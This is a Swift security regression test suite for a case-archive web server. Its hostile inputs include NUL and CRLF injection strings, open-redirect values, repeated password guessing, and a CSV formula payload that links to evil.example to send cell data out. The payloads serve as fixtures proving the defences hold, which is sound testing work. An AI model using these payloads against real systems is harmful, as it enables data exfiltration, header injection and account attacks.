import Foundation
import HTTPTypes
import Hummingbird
import HummingbirdTesting
import JuanzongAccess
import JuanzongCore
import JuanzongExport
import JuanzongPostgresTesting
import JuanzongStore
@testable import JuanzongWeb
import Testing

/// What a curious user or an attacker tries with curl against a live server: each test was
/// written to fail on the server before these holes were closed.
@Suite struct HostileRequestTests {
    /// Waits until the audit log (written in the background) holds an entry matching `condition`;
    /// returns its actor and target.
    func auditEntry(in fixture: WebFixture, _ condition: String, _ values: [any SQLBindable]) async throws -> (actor: String, target: String)? {
        for _ in 0..<100 {
            let row = try fixture.archive.openForReading().prepare("SELECT actor, target FROM audit_log WHERE \(condition) ORDER BY id DESC LIMIT 1")
                .first(values) { (actor: $0.string(0), target: $0.string(1)) }
            if let row { return row }
            try await Task.sleep(for: .milliseconds(50))
        }
        return nil
    }

    @Test(arguments: ArchiveStoreKind.available) func textWithNULRoundTripsAndKeepsTheAuditChainIntact(store: ArchiveStoreKind) async throws {
        let fixture = WebFixture.on(store)
        // Every field of an entry, straight through the store. PostgreSQL's text holds no NUL:
        // the audit log shows it as ␀, and a statement refuses it rather than cut the text short.
        let nul = store == .sqlite ? "\u{0}" : "\u{2400}"
        let scratch = FileManager.default.temporaryDirectory.appendingPathComponent("juanzong-nul-\(UUID().uuidString)")
        let (database, _) = try store.newArchive(in: scratch).openForWriting()
        let log = AuditLog(database: database)
        try log.append([.init(actor: "a\u{0}b", action: "act\u{0}", target: "\u{0}t", detail: "{\"q\":\"x\u{0}y\"}")])
        let stored = try #require(try log.search().rows.first)
        #expect(stored.actor == "a\(nul)b" && stored.action == "act\(nul)" && stored.target == "\(nul)t" && stored.detail == "{\"q\":\"x\(nul)y\"}")
        #expect(try log.verify().intact)
        #expect(try database.prepare("SELECT CAST(?1 AS TEXT)").first(["前\u{0}后"]) { $0.string(0) } == "前\(nul)后")

        // From outside, with no account: the JSON and form sign-ins and a URL with %00.
        try await fixture.application().test(.live) { client in
            let anonymous = APIClient(client)
            #expect(try await anonymous.post("/api/v1/session", json: ["username": "x\u{0}y", "password": "z"]).status == .unauthorized)
            let form = try await client.execute(
                uri: "/login", method: .post, headers: [.contentType: "application/x-www-form-urlencoded"],
                body: ByteBuffer(string: "username=evil%00x&password=z"))
            #expect(form.status == .unauthorized)
            let api = try await APIClient.signIn(client, as: "reviewer")
            let precedent = try await api.get("/api/v1/precedent?article=" + encoded("食品安全法") + "%00" + encoded("第一条"))
            #expect(precedent.status == .badRequest)
            #expect(precedent.errorCode == "control_character")
        }
        let jsonAttempt = try #require(try await auditEntry(in: fixture, "actor = ?1", ["web:x\(nul)y"]))
        #expect(jsonAttempt.target == "user:x\(nul)y")
        #expect(try await auditEntry(in: fixture, "actor = ?1", ["web:evil\(nul)x"]) != nil)
        #expect(try AuditLog(database: fixture.archive.openForReading()).verify().intact)
    }

    @Test(arguments: ArchiveStoreKind.available) func rolesThatSeeMaskedNumbersGetNoOriginalAndOnlyMaskedExports(store: ArchiveStoreKind) async throws
    {
        let fixture = WebFixture.on(store)
        let identityNumber = "441226199203152812"
        let database = try fixture.archive.openForReading()
        let documentID = try #require(
            try database.prepare("SELECT id FROM documents WHERE text LIKE ?1 LIMIT 1").first(["%\(identityNumber)%"]) { $0.int64(0) })
        let caseNumber = try #require(
            try database.prepare("SELECT case_number FROM cases WHERE subject_id = 1 ORDER BY id LIMIT 1").first { $0.string(0) })
        try await fixture.application().test(.live) { client in
            let supervisor = try await APIClient.signIn(client, as: "supervisor")
            let withheld = try await supervisor.get("/api/v1/documents/\(documentID)/original")
            #expect(withheld.status == .forbidden)
            #expect(withheld.errorCode == "original_withheld")
            #expect(!withheld.text.contains(identityNumber))
            let page = try await supervisor.get("/documents/\(documentID)")
            #expect(page.text.contains("原件不提供下载"))
            let reviewer = try await APIClient.signIn(client, as: "reviewer")
            #expect(try await reviewer.get("/api/v1/documents/\(documentID)/original").status == .ok)

            // Without `redact` a supervisor's bundle is the redacted copy, the subject's own number masked too.
            let export = try await supervisor.post("/api/v1/exports", json: ["case_number": caseNumber])
            #expect(export.status == .ok)
            let file = fixture.root.appendingPathComponent("masked-\(UUID().uuidString).zip")
            try Data(export.body.readableBytesView).write(to: file)
            #expect(try BagVerifier().verify(file.path).valid)
            let contents = try unzipped(file)
            #expect(contents.contains("4412"))
            #expect(!contents.contains(identityNumber))
            #expect(contents.contains("Juanzong-Redacted: yes"))
            let full = try await supervisor.post("/api/v1/exports", json: ["case_number": caseNumber, "redact": false])
            #expect(full.status == .forbidden)
            #expect(full.errorCode == "redaction_required")
        }
    }

    /// Every entry of a zip, printed by Debian's unzip.
    func unzipped(_ file: URL) throws -> String {
        String(decoding: try ChildProcess.run("/usr/bin/unzip", ["-p", file.path]).output, as: UTF8.self)
    }

    @Test(arguments: ArchiveStoreKind.available) func repeatedWrongPasswordsAreThrottledWithRetryAfter(store: ArchiveStoreKind) async throws {
        let fixture = WebFixture.on(store)
        // A server of its own on a copy of the archive, so that the other tests' sign-ins from
        // 127.0.0.1 are not delayed and their audit entries do not wait for this server's writes.
        // The first delay is long enough that a slow machine cannot outlast it during the test.
        let copy = try store.newArchive(in: fixture.root.appendingPathComponent("throttle-\(UUID().uuidString)"))
        let accounts = AccountStore(database: try copy.openForWriting().0, hasher: PasswordHasher(costExponent: 12))
        for (name, role, agency) in WebFixture.users {
            try accounts.add(username: name, displayName: name, role: role, agency: agency, password: WebFixture.password, allowNewAgency: true)
        }
        var policy = SignInThrottle.Policy()
        policy.firstDelay = 120
        let services = try ArchiveServices(location: copy, readers: 1, signInPolicy: policy)
        try await WebServer.application(services: services, host: "127.0.0.1", port: 0).test(.live) { client in
            let anonymous = APIClient(client)
            var statuses: [HTTPResponse.Status] = []
            for _ in 0..<20 {
                statuses.append(try await anonymous.post("/api/v1/session", json: ["username": "admin", "password": "guess-guess-guess"]).status)
            }
            #expect(statuses.prefix(6).allSatisfy { $0 == .unauthorized })
            #expect(statuses.suffix(10).allSatisfy { $0 == .tooManyRequests })
            let right = try await anonymous.post("/api/v1/session", json: ["username": "admin", "password": WebFixture.password])
            #expect(right.status == .tooManyRequests)
            #expect(right.errorCode == "too_many_attempts")
            #expect(Int(right.headers[.retryAfter] ?? "") ?? 0 >= 1)
            let form = try await client.execute(
                uri: "/login", method: .post, headers: [.contentType: "application/x-www-form-urlencoded"],
                body: ByteBuffer(string: "username=admin&password=\(encoded(WebFixture.password))"))
            #expect(form.status == .tooManyRequests)
            #expect(form.headers[.retryAfter] != nil)
            #expect(form.text.contains("登录失败次数过多"))
            // Another account is not held up: the address has had fewer failures than its limit.
            #expect(try await APIClient.signIn(client, as: "reviewer").token != nil)
        }
        var throttled = 0
        for _ in 0..<100 where throttled == 0 {
            throttled =
                try copy.openForReading().prepare("SELECT count(*) FROM audit_log WHERE action = 'login_throttled' AND target = 'user:admin'")
                .first { $0.int(0) } ?? 0
            if throttled == 0 { try await Task.sleep(for: .milliseconds(50)) }
        }
        #expect(throttled > 0)
    }

    @Test(arguments: ArchiveStoreKind.available) func errorsAreChineseWithoutInternalsAndKeepTheNavigation(store: ArchiveStoreKind) async throws {
        let fixture = WebFixture.on(store)
        try await fixture.application().test(.live) { client in
            let signIn = try await client.execute(
                uri: "/api/v1/session", method: .post, headers: [.contentType: "application/json"],
                body: ByteBuffer(string: #"{"username":"supervisor","password":"\#(WebFixture.password)"}"#))
            let cookie = String(try #require(signIn.headers[.setCookie]).prefix { $0 != ";" })
            let csrf = try #require(try signIn.json()["csrf_token"] as? String)
            let page = try await client.execute(uri: "/search?q=%E7%BD%9A%00", method: .get, headers: [.cookie: cookie])
            #expect(page.status == .badRequest)
            #expect(!page.text.contains("SQLite") && !page.text.contains("SELECT"))
            #expect(page.text.contains("控制字符"))
            #expect(page.text.contains("action=\"/logout\"") && page.text.contains(csrf))
            #expect(page.text.contains("href=\"/subjects\""))
            let api = try await APIClient.signIn(client, as: "supervisor")
            let json = try await api.get("/api/v1/search?q=" + encoded("罚\u{0}款"))
            #expect(json.status == .badRequest)
            #expect(json.errorCode == "control_character")
        }
        // A failure inside (here the database's error) reaches the user as a reference id only.
        let failure = try #require(throws: (any Error).self) {
            try fixture.archive.openForReading().execute("SELECT no_such_column FROM documents")
        }
        #expect(String(describing: failure).contains("SELECT"))
        let shown = WebError.from(failure)
        #expect(shown.status == .internalServerError)
        #expect(!shown.message.contains("SELECT") && !shown.message.contains("SQLite"))
        #expect(shown.message.range(of: "参考编号 [0-9a-f]{8}", options: .regularExpression) != nil)
    }

    @Test(arguments: ArchiveStoreKind.available) func csvCellsCannotBecomeFormulas(store: ArchiveStoreKind) async throws {
        let fixture = WebFixture.on(store)
        let csv = CSV.document([["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")", "+1+1", "-2", "@SUM(A1)", "\tx", "正常"]])
        #expect(csv.hasPrefix("\u{FEFF}") && !csv.dropFirst().hasPrefix("\u{FEFF}"))
        #expect(CSV.field("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")").hasPrefix("\"'=HYPERLINK"))
        #expect(CSV.field("+1+1") == "'+1+1")
        #expect(CSV.field("-2") == "-2")  // a number stays a number
        #expect(CSV.field("@SUM(A1)") == "'@SUM(A1)")
        #expect(CSV.field("\tx") == "'\tx")
        // Read back (score worksheets are) the values are the ones written.
        #expect(CSV.parse(csv) == [["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")", "+1+1", "-2", "@SUM(A1)", "\tx", "正常"]])
        try await fixture.application().test(.live) { client in
            let api = try await APIClient.signIn(client, as: "reviewer")
            let download = try await api.get("/search.csv?q=" + encoded("罚款"))
            #expect(download.status == .ok)
            let bytes = Array(download.body.readableBytesView)
            #expect(Array(bytes.prefix(3)) == [0xEF, 0xBB, 0xBF])
            #expect(Array(bytes.dropFirst(3).prefix(3)) != [0xEF, 0xBB, 0xBF])
        }
    }

    @Test(arguments: ArchiveStoreKind.available) func anotherAgencysCaseLooksLikeAnUnknownOneAndTheProbeIsAudited(
        store: ArchiveStoreKind
    ) async throws {
        let fixture = WebFixture.on(store)
        let otherCase = try fixture.caseID(agency: WebFixture.marketAgency, equal: false)
        let otherNumber = try #require(
            try fixture.archive.openForReading().prepare("SELECT case_number FROM cases WHERE id = ?1").first([otherCase]) { $0.string(0) })
        try await fixture.application().test(.live) { client in
            let market = try await APIClient.signIn(client, as: "market")
            let foreign = try await market.get("/api/v1/cases?number=" + encoded(otherNumber))
            let unknown = try await market.get("/api/v1/cases?number=" + encoded(otherNumber + "9"))
            #expect(foreign.status == .notFound && unknown.status == .notFound)
            let foreignMessage = try #require((try foreign.json()["error"] as? [String: Any])?["message"] as? String)
            let unknownMessage = try #require((try unknown.json()["error"] as? [String: Any])?["message"] as? String)
            #expect(
                foreignMessage.replacingOccurrences(of: otherNumber, with: "N")
                    == unknownMessage.replacingOccurrences(of: otherNumber + "9", with: "N"))
            #expect(!foreignMessage.contains("#"))
        }
        #expect(
            try await auditEntry(in: fixture, "actor = 'web:market' AND action = 'access_denied' AND target = ?1", ["case:" + otherNumber]) != nil)
    }

    @Test(arguments: ArchiveStoreKind.available) func signInCannotBeForcedFromAnotherSiteNorRedirectElsewhere(store: ArchiveStoreKind) async throws {
        let fixture = WebFixture.on(store)
        try await fixture.application().test(.live) { client in
            let body = ByteBuffer(string: #"{"username":"supervisor","password":"\#(WebFixture.password)"}"#)
            let plain = try await client.execute(uri: "/api/v1/session", method: .post, headers: [.contentType: "text/plain"], body: body)
            #expect(plain.status == .unsupportedMediaType)
            #expect(plain.headers[.setCookie] == nil)
            let foreign = try await client.execute(
                uri: "/api/v1/session", method: .post,
                headers: [.contentType: "application/json", .origin: "http://evil.example"], body: body)
            #expect(foreign.status == .forbidden)
            #expect(foreign.errorCode == "foreign_origin")
            #expect(foreign.headers[.setCookie] == nil)
            let form = try await client.execute(
                uri: "/login", method: .post,
                headers: [.contentType: "application/x-www-form-urlencoded", .origin: "http://evil.example"],
                body: ByteBuffer(string: "username=supervisor&password=\(encoded(WebFixture.password))"))
            #expect(form.status == .forbidden)
            let redirect = try await client.execute(
                uri: "/login", method: .post, headers: [.contentType: "application/x-www-form-urlencoded"],
                body: ByteBuffer(string: "username=supervisor&password=\(encoded(WebFixture.password))&next=/%09/evil.example/"))
            #expect(redirect.status == .seeOther)
            #expect(redirect.headers[.location] == "/search")
            let loginPage = try await client.execute(uri: "/login?next=/%5C/evil.example/", method: .get)
            #expect(loginPage.text.contains("name=\"next\" value=\"/search\""))
        }
    }

    @Test(arguments: ArchiveStoreKind.available) func controlCharactersNeverReachATagFileAndAgenciesMustExist(store: ArchiveStoreKind) async throws {
        let fixture = WebFixture.on(store)
        let output = fixture.root.appendingPathComponent("tag-\(UUID().uuidString).zip")
        #expect(throws: ExportError.self) {
            try BagWriter(format: .zip, bagName: "tag", modified: Date()).write(
                payload: [], bagInfo: [("Source-Organization", "某局\r\nBag-Size: 1")], to: output)
        }
        #expect(!FileManager.default.fileExists(atPath: output.path))
        #expect(!Responses.disposition("a\r\nSet-Cookie: x.txt").contains("\r"))
        try await fixture.application().test(.live) { client in
            let admin = try await APIClient.signIn(client, as: "admin")
            let unknown = try await admin.post(
                "/api/v1/users",
                json: [
                    "username": "no.such", "role": "agency", "agency": "不存在的局",
                    "password": "long-enough-1",
                ])
            #expect(unknown.status == .badRequest)
            #expect(unknown.errorCode == "unknown_agency")
            let broken = try await admin.post(
                "/api/v1/users",
                json: [
                    "username": "line.break", "role": "agency",
                    "agency": WebFixture.marketAgency + "\r\nX", "password": "long-enough-1",
                ])
            #expect(broken.errorCode == "control_character")
        }
    }

    @Test(arguments: ArchiveStoreKind.available) func sourcePathsAreRelativeExceptForAdministrators(store: ArchiveStoreKind) async throws {
        let fixture = WebFixture.on(store)
        try await fixture.application().test(.live) { client in
            let supervisor = try await APIClient.signIn(client, as: "supervisor")
            let hits = try #require(try await supervisor.get("/api/v1/search?q=" + encoded("罚款")).json()["hits"] as? [[String: Any]])
            let paths = hits.compactMap { $0["source_path"] as? String }
            #expect(!paths.isEmpty)
            #expect(paths.allSatisfy { $0.hasPrefix("SampleCases/") })
            let documentID = try #require(hits.first?["document_id"] as? Int)
            let document = try await supervisor.get("/api/v1/documents/\(documentID)").json()
            #expect((document["source_path"] as? String)?.hasPrefix("SampleCases/") == true)
            #expect(try await supervisor.get("/documents/\(documentID)").text.contains(WebFixture.packageRoot.path) == false)
            let admin = try await APIClient.signIn(client, as: "admin")
            let full = try #require(try await admin.get("/api/v1/search?q=" + encoded("罚款")).json()["hits"] as? [[String: Any]])
            #expect((full.first?["source_path"] as? String)?.hasPrefix(WebFixture.packageRoot.path) == true)
        }
    }
}
